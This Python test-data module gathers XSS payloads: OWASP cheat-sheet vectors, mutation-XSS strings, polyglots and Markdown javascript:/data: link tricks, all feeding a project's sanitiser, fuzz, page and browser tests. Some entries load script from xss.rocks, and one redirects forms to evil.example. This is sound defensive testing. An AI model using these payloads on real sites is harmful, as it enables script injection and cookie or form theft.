"""XSS vectors: the one list the sanitiser, fuzz, page and browser tests draw from.

Taken from the OWASP XSS Filter Evasion Cheat Sheet, well-known polyglots and mutation-XSS payloads, plus
Markdown-specific link tricks. ALL_VECTORS goes through the renderer (tests/text/test_sanitizer.py,
tests/security/test_markdown_fuzz.py). PAGE_VECTORS is the selection typed into every form and checked on every
page, over HTTP (tests/security/test_vectors_on_pages.py) and in Chromium (tests/browser/test_xss.py): one or
two per technique, since each costs a set of page loads, and none that keeps an https image once sanitised
(allowed by design, but the browser tests fail on any request to another host).
"""

from __future__ import annotations

ALERT_XSS = "javascript:alert('XSS')"


def encoded(text: str, template: str) -> str:
    """Every character of ``text`` as a character reference, OWASP-style."""
    return "".join(template.format(ord(ch)) for ch in text)


CHEAT_SHEET = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '"><script>alert(1)</script>',
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<img src=x onerror=alert(1)>",
    '<img src="https://example.com/a.png" onerror="alert(1)">',
    f'<img src=x onerror="{encoded(ALERT_XSS, "&#{:07d}")}">',
    f"<IMG SRC={encoded(ALERT_XSS, '&#{};')}>",
    f"<IMG SRC={encoded(ALERT_XSS, '&#{:07d}')}>",
    f"<IMG SRC={encoded(ALERT_XSS, '&#x{:X}')}>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<a href="#" onclick="alert(1)">x</a>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="java\x00script:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    ('<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">'),
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TD BACKGROUND=\"javascript:alert('XSS')\">x</TD></TABLE>",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    (
        '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3Z'
        'nIj48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+" type="image/svg+xml" '
        'AllowScriptAccess="always"></EMBED>'
    ),
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    '<math href="javascript:alert(1)">CLICKME</math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><mi xlink:href="data:x,<script>alert(1)</script>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><button formaction=javascript:alert(1)>X</button></form>",
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)">',
    '<xss onmouseover="alert(1)" style="display:block">x</xss>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    "'\"><img src=x onerror=alert(1)//>",
    (
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//"
        "</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e"
    ),
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<template><script>alert(1)</script></template>",
    "<plaintext><script>alert(1)</script>",
    '<base href="javascript:alert(1)//">',
    # Markdown-specific.
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](<javascript:alert(1)>)",
    '[x]( javascript:alert(1) "title")',
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    '![x" onerror="alert(1)](https://example.com/a.png)',
    "[x][evil]\n\n[evil]: javascript:alert(1)",
    "![x][evil]\n\n[evil]: data:image/svg+xml,<svg onload=alert(1)>",
    "<javascript:alert(1)>",
    "[![img](https://example.com/a.png)](javascript:alert(1))",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
]

# The fuzz test's first building blocks (mutation XSS, encodings, Markdown links).
FUZZ_SEEDS = [
    "<script>alert(1)</script>",
    "<ScRiPt SRC=//xss.rocks/xss.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
    "&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>",
    '<IMG SRC="jav&#x09;ascript:alert(1);">',
    '<IMG SRC=" &#14;  javascript:alert(1);">',
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="javascript&#58;alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "<iframe src=javascript:alert(1)></iframe>",
    "<style>@import 'http://xss.rocks/xss.css';</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "'\"><img src=x onerror=alert(1)//>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/"
    "</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "\"'--></style></script><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](https://example.com/a.png)',
    "[a][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
]

PAGE_VECTORS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)//>",
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    "<a href=javascript&#58;alert(1)>x</a>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "![x](javascript:alert(1))",
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "{{ 7*7 }}<script>alert(1)</script>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/"
    "</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
]

POLYGLOTS = [
    # PortSwigger's polyglot: breaks out of attributes, comments and raw-text elements in one string.
    "javascript:\"/*'/*`/*--></noscript></title></textarea></style></template></noembed></script>"
    '<html " onmouseover=/*&lt;svg/*/onload=alert()//>',
    "\"'--></style></script><script>alert(1)</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<base href="https://evil.example/"><form action=https://evil.example/><button>x</button></form>',
    "<details open ontoggle=alert(1)>",
]
PAGE_VECTORS += POLYGLOTS
ALL_VECTORS = list(dict.fromkeys(CHEAT_SHEET + FUZZ_SEEDS + PAGE_VECTORS))
